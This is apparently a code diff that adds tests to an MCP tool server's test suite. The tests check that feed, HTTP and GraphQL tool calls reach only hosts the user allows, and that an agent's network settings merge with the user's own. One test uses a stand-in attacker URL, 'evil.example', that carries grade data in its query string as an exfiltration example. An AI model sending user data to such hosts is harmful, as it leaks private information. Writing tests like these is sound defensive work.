@@ -138,6 +138,42 @@ class Mcp(CommandTest, unittest.IsolatedAsyncioTestCase):
                 self.assertFalse({"file"} & set(tool.input_schema["properties"]), tool.name)
         self.danxi("mcp", "--files", "/missing", status=2)
 
+    async def test_requests_go_only_to_hosts_that_the_person_allows(self):
+        secret = "https://evil.example/?grades=A"
+        calls = [
+            ("feeds_fetch", {"url": secret}),
+            ("feeds_discover", {"url": secret}),
+            ("http_request", {"url": secret}),
+            ("feeds_subscribe", {"url": secret}),
+            ("graphql_execute", {"endpoint": secret, "query": "{a}"}),
+        ]
+        allowed = {"url": "https://feeds.example.net/notices.rss"}
+        services = ("--services", "feeds,http,graphql")
+        async with self.client("--write", *services, "--hosts", "*.example.net, other.org") as client:
+            for name, arguments in calls:
+                with self.subTest(name):
+                    refused = await client.call_tool(name, arguments)
+                    self.assertTrue(refused.is_error)
+                    self.assertIn("host_denied: ", refused.content[0].text)
+            fetched = await client.call_tool("feeds_fetch", allowed)
+            self.assertFalse(fetched.is_error, fetched.content)
+        async with self.client(*services) as client:
+            refused = await client.call_tool("feeds_fetch", allowed)
+            self.assertIn("network.url_hosts does not list feeds.example.net", refused.content[0].text)
+            own = await client.call_tool("http_request", {"host": "notes", "path": "/"})
+            self.assertNotIn("host_denied", own.content[0].text)
+
+    def test_the_agents_configuration_keeps_the_settings_of_the_person(self):
+        from danxi.command.mcp import _restricted
+
+        denied = {"local_addresses": "deny", "url_hosts": ["b.org"]}
+        self.assertEqual(_restricted({"store": {}}, ["b.org"]), {"store": {}, "network": denied})
+        self.assertEqual(_restricted({"network": None}, ["b.org"]), {"network": denied})
+        own = {"network": {"proxy": "p", "local_addresses": "allow", "url_hosts": ["a.org"]}}
+        expected = {"network": {"proxy": "p", "local_addresses": "allow", "url_hosts": ["a.org", "b.org"]}}
+        self.assertEqual(_restricted(own, ["b.org"]), expected)
+        self.assertEqual(_restricted({"network": 1}, []), {"network": 1})
+
     async def test_tools_write_with_the_option_write(self):
         hole = self.sign_in().forum.list_holes_in_division(1)[0].id
         arguments = {"content": "written by an agent", "hole_id": hole}
@@ -156,7 +192,7 @@ class Mcp(CommandTest, unittest.IsolatedAsyncioTestCase):
         """The client of the SDK checks each value against the output schema of its tool."""
         skipped = DOWNLOADS | {PAYMENT, "campus.answer_challenge"}
         services = {method.service for method in INTERFACE.methods} - {"github"}
-        async with self.client("--services", ",".join(services), patience=300) as client:
+        async with self.client("--services", ",".join(services), "--hosts", "*", patience=300) as client:
             journey = Journey(self)
             for method in INTERFACE.methods:
                 if (
